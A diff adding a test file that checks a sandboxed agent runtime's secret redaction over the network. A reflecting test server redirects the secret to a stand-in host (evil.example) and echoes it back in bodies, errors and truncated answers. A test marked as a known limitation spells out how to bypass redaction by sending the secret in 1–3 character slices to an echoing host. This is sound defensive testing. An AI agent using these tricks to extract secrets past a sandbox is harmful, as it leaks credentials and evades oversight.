@@ -1,0 +1,316 @@
+// Secrets on the wire, through the real CLI: a random canary in a classified `.env` is sent
+// as a secret header or a classified body and arrives at the server in plaintext, while the
+// agent's stdout, stderr and errors never hold it — also when the server reflects it back
+// (in the body, in a redirect, in a truncated answer). A classified answer goes to the
+// secure sink only.
+
+import { readFileSync } from "node:fs";
+import path from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
+import { expectNoLeak } from "../files/fixtures.js";
+import {
+  ATTEMPT_PRELUDE,
+  attemptOf,
+  attempts,
+  configFile,
+  echo,
+  expectRefused,
+  type Handler,
+  lit,
+  makeCanary,
+  permit,
+  realTempDir,
+  startServer,
+  tacit,
+  type TestServer,
+  writeTree,
+} from "./fixtures.js";
+
+const cleanups: Array<() => void | Promise<void>> = [];
+afterEach(async () => {
+  for (const cleanup of cleanups.splice(0)) await cleanup();
+});
+
+async function server(handler?: Handler): Promise<TestServer> {
+  const started = await startServer(handler);
+  cleanups.push(() => started.close());
+  return started;
+}
+
+interface SecretWorld {
+  /** The script's working directory, with `.env` holding the canary. */
+  root: string;
+  /** The secure sink, outside the root. */
+  sink: string;
+  canary: string;
+}
+
+function secretWorld(): SecretWorld {
+  const { dir: base, cleanup } = realTempDir("tacit-net-secret-");
+  cleanups.push(cleanup);
+  const root = path.join(base, "work");
+  const canary = makeCanary();
+  writeTree(root, { ".env": `  ${canary}\n`, "plain.txt": "nothing here\n" });
+  return { root, sink: path.join(base, "sink.log"), canary };
+}
+
+/** The canary reached neither output stream nor any ordinary file of the tree. */
+function expectNotSeen(world: SecretWorld, seen: { stdout: string; stderr: string }): void {
+  expectNoLeak(world.canary, seen, world.root, (file) => path.basename(file) === ".env");
+  // Not even its random part, in pieces (a partial leak is a leak).
+  const random = world.canary.slice("canary-".length);
+  for (let at = 0; at + 8 <= random.length; at += 4) {
+    const piece = random.slice(at, at + 8);
+    expect(seen.stdout.includes(piece), `stdout holds ${piece} of the canary`).toBe(false);
+    expect(seen.stderr.includes(piece), `stderr holds ${piece} of the canary`).toBe(false);
+  }
+}
+
+const TOKEN = `const token = requestFileSystem(".", (fs) => fs.readClassified(".env").map((t) => t.trim()));`;
+
+/** Reflects the authorization header: in the body, a redirect, an error status, a malformed Location. */
+const reflecting: Handler = (request, response) => {
+  const secret = String(request.headers.authorization ?? "");
+  const url = new URL(request.url, "http://x");
+  switch (url.pathname) {
+    case "/text":
+      response.end(`you sent ${secret} and ${secret}!`);
+      return;
+    case "/error":
+      response.statusCode = 500;
+      response.end(`bad token: ${secret}`);
+      return;
+    case "/to-host":
+      response.writeHead(302, { location: `http://${secret}.evil.example/` });
+      response.end();
+      return;
+    case "/to-path":
+      response.writeHead(302, { location: `/echo?k=${secret}` });
+      response.end();
+      return;
+    case "/to-port":
+      response.writeHead(302, { location: `http://127.0.0.1:1/${secret}` });
+      response.end();
+      return;
+    case "/to-malformed":
+      response.writeHead(302, { location: `http://[${secret}/` });
+      response.end();
+      return;
+    default:
+      echo(request, response);
+  }
+};
+
+describe("secret headers", () => {
+  it("arrive at the server in plaintext; echoes of them come back redacted, in bodies, statuses and errors", async () => {
+    const world = secretWorld();
+    const a = await server(reflecting);
+    const O = a.origin;
+    const result = await tacit(
+      world.root,
+      `${ATTEMPT_PRELUDE}
+${TOKEN}
+const secret = { secretHeaders: { authorization: token } };
+requestNetwork([${lit(`127.0.0.1:${a.port}`)}], (net) => {
+  attempt("echo-get", () => JSON.parse(net.httpGet("${O}/echo", secret)).headers.authorization);
+  attempt("echo-raw", () => net.httpGet("${O}/echo", secret));
+  attempt("echo-post", () => JSON.parse(net.httpPost("${O}/echo", "body", secret)).headers.authorization);
+  attempt("echo-request", () => net.httpRequest("PUT", "${O}/echo", { ...secret, body: "b" }));
+  attempt("text", () => net.httpGet("${O}/text", secret));
+  attempt("error-status", () => net.httpRequest("GET", "${O}/error", secret));
+  attempt("redirect-path", () => JSON.parse(net.httpGet("${O}/to-path", secret)).url);
+  attempt("redirect-host", () => net.httpGet("${O}/to-host", secret));
+  attempt("redirect-port", () => net.httpGet("${O}/to-port", secret));
+  attempt("redirect-malformed", () => net.httpGet("${O}/to-malformed", secret));
+  // Another header name, and a secret in a plain header or URL is only its mask.
+  attempt("custom-name", () => JSON.parse(net.httpGet("${O}/echo", { secretHeaders: { "x-api-key": token } })).headers["x-api-key"]);
+  attempt("as-plain-header", () => JSON.parse(net.httpGet("${O}/plain", { headers: { "x-leak": String(token) } })).headers["x-leak"]);
+  attempt("in-url", () => JSON.parse(net.httpGet("${O}/u?k=" + encodeURIComponent(\`\${token}\`))).url);
+  attempt("as-plain-body", () => JSON.parse(net.httpPost("${O}/b", String(token))).body);
+});
+println("token:", token, String(token), JSON.stringify({ token }));
+`,
+      permit(`127.0.0.1:${a.port}`),
+    );
+    expect(result.code, result.stderr).toBe(0);
+    const found = attempts(result.stdout);
+    expect(attemptOf(found, "echo-get")).toEqual({ status: "ok", value: "[redacted]" });
+    expect(String(attemptOf(found, "echo-raw").value)).toContain('"authorization":"[redacted]"');
+    expect(attemptOf(found, "echo-post")).toEqual({ status: "ok", value: "[redacted]" });
+    expect(attemptOf(found, "echo-request").value).toMatchObject({ status: 200 });
+    expect(attemptOf(found, "text")).toEqual({ status: "ok", value: "you sent [redacted] and [redacted]!" });
+    expect(attemptOf(found, "error-status")).toEqual({ status: "ok", value: { status: 500, body: "bad token: [redacted]" } });
+    expect(attemptOf(found, "redirect-path")).toEqual({ status: "ok", value: "/echo?k=[redacted]" });
+    expectRefused(found, ["redirect-host"], /not among the hosts/);
+    expectRefused(found, ["redirect-port"], /not among the hosts/);
+    expect(attemptOf(found, "redirect-malformed").status).not.toBe("ok");
+    expect(attemptOf(found, "custom-name")).toEqual({ status: "ok", value: "[redacted]" });
+    expect(attemptOf(found, "as-plain-header")).toEqual({ status: "ok", value: "Classified(***)" });
+    expect(attemptOf(found, "in-url")).toEqual({ status: "ok", value: "/u?k=Classified(***)" });
+    expect(attemptOf(found, "as-plain-body")).toEqual({ status: "ok", value: "Classified(***)" });
+    expect(result.stdout).toContain("token: Classified(***) Classified(***)");
+
+    // The server did get the plaintext, trimmed, under the names asked for.
+    const withSecret = a.received.filter((r) => r.headers.authorization !== undefined);
+    expect(withSecret.length).toBeGreaterThanOrEqual(11);
+    for (const r of withSecret) expect(r.headers.authorization).toBe(world.canary);
+    expect(a.received.find((r) => r.url === "/echo" && r.headers["x-api-key"] !== undefined)?.headers["x-api-key"]).toBe(world.canary);
+    // Plain channels carried only the mask.
+    for (const url of ["/plain", "/b"]) expect(JSON.stringify(a.received.find((r) => r.url.startsWith(url)))).not.toContain(world.canary);
+    expect(a.received.some((r) => r.url.startsWith("/u?") && r.url.includes(world.canary))).toBe(false);
+    expectNotSeen(world, result);
+  });
+
+  it("a secret reshaped so that a JSON echo escapes it (a quote, a tab) is still redacted", async () => {
+    const world = secretWorld();
+    const a = await server(); // a plain JSON echo, like any public "echo my request" endpoint
+    const url = `${a.origin}/echo`;
+    const result = await tacit(
+      world.root,
+      `${ATTEMPT_PRELUDE}
+${TOKEN}
+requestNetwork([${lit(`127.0.0.1:${a.port}`)}], (net) => {
+  const echoed = (name: string, value: Classified<string>): string =>
+    String(JSON.parse(net.httpGet(${lit(url)}, { secretHeaders: { [name]: value } })).headers[name] ?? "");
+  // The echo JSON-escapes these, so the text it answers is not the text that was sent.
+  attempt("quote", () => echoed("x-quote", token.map((t) => t + '"')));
+  attempt("tab", () => echoed("x-tab", token.map((t) => t + "\\t")));
+});
+`,
+      permit(`127.0.0.1:${a.port}`),
+    );
+    expect(result.code, result.stderr).toBe(0);
+    const found = attempts(result.stdout);
+    for (const label of ["quote", "tab"]) attemptOf(found, label);
+    expectNotSeen(world, result);
+  });
+
+  // KNOWN LIMITATION, asserted as failing so that a fix shows up: a cooperating allowed host
+  // that reflects requests can be sent a secret in pieces shorter than redaction matches
+  // (map(t => t.slice(i, i + 3))). Redacting every short substring would destroy ordinary
+  // answers, and refusing short values would itself be an oracle. Documented in the closing
+  // note and the README; the operator's --network-permissions decide which hosts can do this.
+  it.fails("KNOWN LIMITATION: a secret sent in pieces shorter than 4 characters to a reflecting host is not redacted", async () => {
+    const world = secretWorld();
+    const a = await server(); // a plain JSON echo, like any public "echo my request" endpoint
+    const url = `${a.origin}/echo`;
+    const result = await tacit(
+      world.root,
+      `${ATTEMPT_PRELUDE}
+${TOKEN}
+requestNetwork([${lit(`127.0.0.1:${a.port}`)}], (net) => {
+  const echoed = (name: string, value: Classified<string>): string =>
+    String(JSON.parse(net.httpGet(${lit(url)}, { secretHeaders: { [name]: value } })).headers[name] ?? "");
+  attempt("pieces-of-3", () => {
+    let joined = "";
+    for (let i = 0; i < 60; i += 3) {
+      const start = i;
+      joined += echoed("x-piece", token.map((t) => t.slice(start, start + 3)));
+    }
+    return joined;
+  });
+  attempt("pieces-of-1", () => {
+    let joined = "";
+    for (let i = 0; i < 12; i++) {
+      const start = i + 7;
+      joined += echoed("x-char", token.map((t) => t.charAt(start)));
+    }
+    return joined;
+  });
+});
+`,
+      permit(`127.0.0.1:${a.port}`),
+    );
+    expect(result.code, result.stderr).toBe(0);
+    const found = attempts(result.stdout);
+    for (const label of ["pieces-of-3", "pieces-of-1"]) attemptOf(found, label);
+    expectNotSeen(world, result);
+  });
+
+  it("an answer cut by the size limit does not reveal part of a secret it reflected", async () => {
+    const world = secretWorld();
+    const limit = 4096;
+    // Pads the reflection so that the cut falls inside it, leaving `keep` of its characters.
+    const a = await server((request, response) => {
+      const secret = String(request.headers.authorization ?? "");
+      const keep = Number(new URL(request.url, "http://x").searchParams.get("keep"));
+      response.end("x".repeat(limit - keep) + secret + "y".repeat(100));
+    });
+    const keeps = [8, 20, world.canary.length - 4, world.canary.length - 1];
+    const result = await tacit(
+      world.root,
+      `${ATTEMPT_PRELUDE}
+${TOKEN}
+requestNetwork([${lit(`127.0.0.1:${a.port}`)}], (net) => {
+  for (const keep of ${JSON.stringify(keeps)}) {
+    attempt("keep-" + keep, () => net.httpGet(${lit(`${a.origin}/pad?keep=`)} + keep, { secretHeaders: { authorization: token } }).replace(/^x+/, ""));
+  }
+});
+`,
+      [...permit(`127.0.0.1:${a.port}`), "--config", configFile(world.root, { networkResponseLimitBytes: limit })],
+    );
+    expect(result.code, result.stderr).toBe(0);
+    const found = attempts(result.stdout);
+    for (const keep of keeps) {
+      const { status, value } = attemptOf(found, `keep-${keep}`);
+      expect(status).toBe("ok");
+      expect(String(value)).toContain("[tacit: response truncated");
+    }
+    expect(a.received).toHaveLength(keeps.length);
+    for (const r of a.received) expect(r.headers.authorization).toBe(world.canary);
+    expectNotSeen(world, result);
+  });
+});
+
+describe("httpPostClassified", () => {
+  it("sends the plaintext body; the answer is a Classified whose plaintext reaches the secure sink only", async () => {
+    const world = secretWorld();
+    const replyMarker = makeCanary().replace("canary", "reply");
+    const a = await server((request, response) => {
+      response.end(`${replyMarker} got ${request.body} type=${request.headers["content-type"]}`);
+    });
+    const result = await tacit(
+      world.root,
+      `${ATTEMPT_PRELUDE}
+${TOKEN}
+requestNetwork([${lit(`127.0.0.1:${a.port}`)}], (net) => {
+  const answer = net.httpPostClassified(${lit(`${a.origin}/classified`)}, token);
+  println("answer:", answer);
+  println("string:", String(answer), JSON.stringify({ answer }), \`\${answer}\`);
+  println("length:", answer.map((s) => s.length));
+  println("sink:", answer);
+  attempt("json-type", () => String(net.httpPostClassified(${lit(`${a.origin}/json`)}, classify("{}"), { contentType: "application/json" })));
+  attempt("with-secret-header", () => String(net.httpPostClassified(${lit(`${a.origin}/both`)}, token, { secretHeaders: { authorization: token } })));
+  attempt("denied", () => net.httpPostClassified("http://127.0.0.1:1/", token));
+  attempt("not-classified", () => net.httpPostClassified(${lit(`${a.origin}/plain`)}, "plain" as unknown as Classified<string>));
+});
+`,
+      [...permit(`127.0.0.1:${a.port}`), "--secure-output", world.sink],
+    );
+    expect(result.code, result.stderr).toBe(0);
+    const found = attempts(result.stdout);
+    expect(result.stdout).toContain("answer: Classified(***)");
+    expect(result.stdout).toContain('string: Classified(***) {"answer":"Classified(***)"} Classified(***)');
+    expect(result.stdout).toContain("length: Classified(***)");
+    expect(attemptOf(found, "json-type")).toEqual({ status: "ok", value: "Classified(***)" });
+    expect(attemptOf(found, "with-secret-header")).toEqual({ status: "ok", value: "Classified(***)" });
+    expectRefused(found, ["denied"], /not among the hosts/);
+    expect(attemptOf(found, "not-classified").status).not.toBe("ok");
+
+    // The server got the plaintext body with the default content type.
+    const [first] = a.received.filter((r) => r.url === "/classified");
+    expect(first).toMatchObject({ method: "POST", body: world.canary });
+    expect(first?.headers["content-type"]).toBe("text/plain; charset=utf-8");
+    expect(a.received.find((r) => r.url === "/json")?.headers["content-type"]).toBe("application/json");
+    expect(a.received.find((r) => r.url === "/both")).toMatchObject({ body: world.canary });
+    expect(a.received.find((r) => r.url === "/both")?.headers.authorization).toBe(world.canary);
+    expect(a.received.some((r) => r.url === "/plain")).toBe(false);
+
+    // The answer's plaintext is in the sink, and nowhere the agent sees.
+    const sink = readFileSync(world.sink, "utf8");
+    expect(sink).toContain(`${replyMarker} got ${world.canary} type=text/plain; charset=utf-8`);
+    expect(sink).toContain(String(`${replyMarker} got ${world.canary}`.length + " type=text/plain; charset=utf-8".length));
+    expect(result.stdout + result.stderr).not.toContain(replyMarker);
+    expectNotSeen(world, result);
+  });
+});
